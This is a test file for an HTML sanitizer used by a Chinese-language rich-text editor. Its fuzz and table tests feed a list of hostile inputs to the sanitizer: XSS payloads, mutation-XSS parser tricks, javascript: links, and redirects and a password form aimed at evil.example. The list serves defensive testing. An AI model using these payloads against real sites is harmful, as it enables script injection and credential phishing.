import fc from 'fast-check';
import { fromHtml } from 'hast-util-from-html';
import { expect, it } from 'vitest';
import { plainOf } from '../../language/plainText';
import { isLink, isPicture, RICH_TAGS } from '../../language/richText';
import { cleaned } from './richText';

it.each([
  ['<p>一<b>二</b><i>三</i></p><h1>四</h1><ul><li>五</li></ul>', '<p>一<strong>二</strong><em>三</em></p><h3>四</h3><ul><li>五</li></ul>'],
  ['两行\n纯文本 <3 & "引"\n\n下一段', '<p>两行<br>纯文本 &lt;3 &amp; "引"</p><p>下一段</p>'],
  ['<div>甲</div><div><p>乙</p></div>', '<p>甲</p><p>乙</p>'],
  ['<span style="color:red">红</span>', '<p>红</p>'],
  ['<p class="x" style="position:fixed" onclick="alert(1)">文</p>', '<p>文</p>'],
  [
    '<p>见<a href="https://example.com/?a=1&b=2" onclick="x()" rel="opener">这里</a></p>',
    '<p>见<a target="_blank" rel="noopener noreferrer" href="https://example.com/?a=1&amp;b=2">这里</a></p>',
  ],
  [
    '<p><a href="/api/third/order/search?status=waiting">订单</a><a href="tel:400-820-1234">电话</a></p>',
    '<p><a href="/api/third/order/search?status=waiting">订单</a><a href="tel:400-820-1234">电话</a></p>',
  ],
  [
    '<p><img src="/uploads/2026/a.png" alt="桶" width="9999" srcset="https://evil.example/x 1x" onerror="alert(1)"></p>',
    '<p><img src="/uploads/2026/a.png" alt="桶"></p>',
  ],
  ['<p></p><p> </p>', ''],
  ['<script>alert(1)</script>', ''],
  ['   ', ''],
])('keeps what the editor can say: %s', (input, clean) => {
  expect(cleaned(input)).toBe(clean);
});

/** What hostile clients send: things that run, load, restyle, or are read differently a second time. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="http://evil.example/a.png">',
  '<img src="//evil.example/a.png">',
  '<a href="javascript:alert(1)">链</a>',
  '<a href=" java\nscript:alert(1)">链</a>',
  '<a href="&#106;avascript:alert(1)">链</a>',
  '<a href="data:text/html,<script>alert(1)</script>">链</a>',
  '<a href="vbscript:x">链</a>',
  '<a href="//evil.example">链</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example">',
  '<object data="x"></object>',
  '<embed src="x">',
  '<form action="https://evil.example"><input name="password"><button>登录</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=x onerror=alert(1)&gt;</xmp></annotation-xml></math>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p/onclick=alert(1)>文',
  '<p id="location" name="x">文</p>',
  '<details open ontoggle=alert(1)>文</details>',
  '<video><source onerror=alert(1)></video>',
  '<a href="https://x.example" target="_self">链',
  '<b><p>一</b>二</p>',
  '<table><tr><td>格<a href=https://a.example><table><td><a href=https://b.example>深',
  '\0<img\0 src=x\0 onerror=alert(1)>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<ul><li>'.repeat(200),
  '</p></div></body></html><p>尾',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<plaintext><img src=x onerror=alert(1)>',
];

const allTags = (html: string) => {
  const found: { tagName: string; properties: Record<string, unknown> }[] = [];
  const walk = (node: ReturnType<typeof fromHtml> | ReturnType<typeof fromHtml>['children'][number]) => {
    if (node.type === 'element') found.push(node);
    if ('children' in node) node.children.forEach((child) => walk(child as never));
  };
  walk(fromHtml(html, { fragment: true }));
  return found;
};

function expectClean(text: string): void {
  const clean = cleaned(text);
  for (const { tagName, properties } of allTags(clean)) {
    expect(Object.keys(RICH_TAGS), clean).toContain(tagName);
    for (const [name, value] of Object.entries(properties)) {
      expect(RICH_TAGS[tagName], clean).toContain(name);
      if (name === 'href') expect(isLink(String(value)), clean).toBe(true);
      if (name === 'src') expect(isPicture(String(value)), clean).toBe(true);
    }
  }
  expect(clean).not.toContain('\0');
  expect(cleaned(clean)).toBe(clean);
}

it.each(HOSTILE)('lets nothing run, load or restyle: %s', expectClean);

it('nor does it when they come nested, cut short and in any order', () => {
  const part = fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.constantFrom(
      '<p>',
      '</p>',
      '<div>',
      '</div>',
      '<b>',
      '</b>',
      '<a href="https://a.example">',
      '</a>',
      '<ul>',
      '<li>',
      '</ul>',
      '<h3>',
      '</h3>',
      '<table><td>',
      '</table>',
      '文字',
      '&lt;',
      '<',
      '>',
      '"',
      "'",
      '<!--',
      '-->',
    ),
    fc.string({ maxLength: 8 }),
  );
  fc.assert(fc.property(fc.array(part, { maxLength: 12 }), fc.nat(20), (parts, cut) => expectClean(parts.join('').slice(cut))));
});

it('keeps the words of what it takes away', () => {
  expect(plainOf(cleaned('<table><tr><td><font color="red">红</font></td><td>绿</td></tr></table><center>中</center>'))).toBe('红绿中');
});
